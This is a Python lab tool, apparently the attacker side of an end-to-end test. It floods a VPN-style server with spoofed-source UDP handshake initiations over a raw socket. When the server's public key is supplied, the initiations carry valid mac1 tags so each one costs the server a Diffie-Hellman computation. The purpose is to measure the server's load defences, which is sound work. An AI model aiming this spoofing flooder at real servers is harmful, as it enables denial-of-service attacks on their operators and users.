"""A handshake flood: initiations from many spoofed source addresses at a high rate.

Role: the attacker of ``lab/tests/test_flood_e2e.py`` and of the CPU measurement in
docs/PROTOCOL.md §3.5. It builds IPv4/UDP datagrams itself on a raw socket (``IP_HDRINCL``)
so each can carry another source address and port, drawn from ``--sources`` (a prefix the
server routes back towards the attacker's namespace, where the replies die).

Kinds (``--kind``): ``random`` — 148 random bytes typed as an initiation (type 1, reserved
zero): what a sender that does not know the server's public key can write, refused at mac1;
``mac1`` — the same with a right mac1 under ``--server-key`` (base64), as from an attacker who
knows the key: it passes mac1 and, below the load threshold, costs the server its
Diffie-Hellman; under load it gets a cookie reply it never sees. ``--size 116`` makes
version-4 initiations (no MAC fields) for measuring a server from before them.

The datagrams are prebuilt and sent 64 to a ``sendmmsg`` call (through ctypes): a Python
``sendto`` per datagram cost each sender about a core at 50 000 a second, CPU that on a
small lab machine the server under test then lacked.

Invariant: nothing sent is a valid handshake of a configured peer (no private key is used).
The last stdout line is ``RESULT {json}`` with ``sent``, ``seconds`` and ``kind``.
"""

from __future__ import annotations

import argparse
import base64
import ctypes
import ctypes.util
import errno
import hashlib
import ipaddress
import json
import random
import socket
import struct
import time

INIT_LEN = 148
MACS_LEN = 32
BATCH = 64


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


class MsgHdr(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p),
        ("namelen", ctypes.c_uint32),
        ("iov", ctypes.POINTER(IoVec)),
        ("iovlen", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("controllen", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    ]


class MMsgHdr(ctypes.Structure):
    _fields_ = [("hdr", MsgHdr), ("len", ctypes.c_uint)]


class Batches:
    """The packets as one array of ``mmsghdr`` (each to ``dst``), sent in slices."""

    def __init__(self, packets: list[bytes], dst: str) -> None:
        self.libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
        n = len(packets)
        # sockaddr_in: family, port 0 (raw), the address; kept alive with the buffers.
        self.addr = ctypes.create_string_buffer(
            struct.pack("=H", socket.AF_INET) + b"\0\0" + socket.inet_aton(dst) + bytes(8)
        )
        self.bufs = [ctypes.create_string_buffer(p, len(p)) for p in packets]
        self.iovs = (IoVec * n)()
        self.msgs = (MMsgHdr * n)()
        for i, (b, p) in enumerate(zip(self.bufs, packets, strict=True)):
            self.iovs[i].base = ctypes.cast(b, ctypes.c_void_p)
            self.iovs[i].len = len(p)
            h = self.msgs[i].hdr
            h.name = ctypes.cast(self.addr, ctypes.c_void_p)
            h.namelen = 16
            h.iov = ctypes.pointer(self.iovs[i])
            h.iovlen = 1
        self.n = n

    def send(self, fd: int, start: int, count: int) -> int:
        """Sends up to ``count`` packets from ``start`` (no wrap); how many went, 0 when the
        device queue is full."""
        count = min(count, self.n - start)
        at = ctypes.byref(self.msgs, start * ctypes.sizeof(MMsgHdr))
        r = self.libc.sendmmsg(fd, at, count, 0)
        if r < 0:
            e = ctypes.get_errno()
            if e in (errno.ENOBUFS, errno.EAGAIN):
                return 0
            raise OSError(e, "sendmmsg")
        return r


def mac1_key(server_pub: bytes) -> bytes:
    return hashlib.blake2s(b"mac1----" + server_pub).digest()


def initiation(rng: random.Random, kind: str, size: int, key: bytes | None) -> bytes:
    body = bytearray(rng.randbytes(size))
    body[0] = 1
    body[2:4] = b"\0\0"
    if kind == "mac1" and key is not None and size == INIT_LEN:
        at = size - MACS_LEN
        body[at : at + 16] = hashlib.blake2s(bytes(body[:at]), key=key, digest_size=16).digest()
        body[at + 16 :] = bytes(16)
    return bytes(body)


def ip_udp(src: str, sport: int, dst: str, dport: int, payload: bytes) -> bytes:
    """IPv4 header (the kernel fills the checksum and id) + UDP with checksum 0 (none)."""
    total = 20 + 8 + len(payload)
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0,
        total,
        0,
        0,
        64,
        socket.IPPROTO_UDP,
        0,
        socket.inet_aton(src),
        socket.inet_aton(dst),
    )
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    return ip + udp + payload


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=7000)
    ap.add_argument("--sources", default="198.18.0.0/15")
    ap.add_argument("--kind", choices=["random", "mac1"], default="mac1")
    ap.add_argument("--server-key", help="the server's public key (base64), for --kind mac1")
    ap.add_argument("--size", type=int, default=INIT_LEN)
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--pps", type=float, default=0, help="0: as fast as possible")
    ap.add_argument("--distinct", type=int, default=1024, help="distinct datagrams cycled")
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    key = mac1_key(base64.b64decode(args.server_key)) if args.server_key else None
    net = ipaddress.ip_network(args.sources)
    # Prebuilt so the send loop is only sendto: distinct sources and contents, cycled.
    packets = []
    for _ in range(args.distinct):
        src = str(net[rng.randrange(1, net.num_addresses - 1)])
        sport = rng.randrange(1024, 65535)
        payload = initiation(rng, args.kind, args.size, key)
        packets.append(ip_udp(src, sport, args.host, args.port, payload))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    batches = Batches(packets, args.host)
    start = time.monotonic()
    sent = 0
    gap = 1.0 / args.pps if args.pps > 0 else 0.0
    while sent < args.count:
        n = batches.send(sock.fileno(), sent % len(packets), min(BATCH, args.count - sent))
        if n == 0:  # the device queue is full: wait for it
            time.sleep(0.0005)
            continue
        sent += n
        if gap:
            behind = start + sent * gap - time.monotonic()
            if behind > 0:
                time.sleep(behind)
    seconds = time.monotonic() - start
    print("RESULT " + json.dumps({"sent": sent, "seconds": seconds, "kind": args.kind}), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
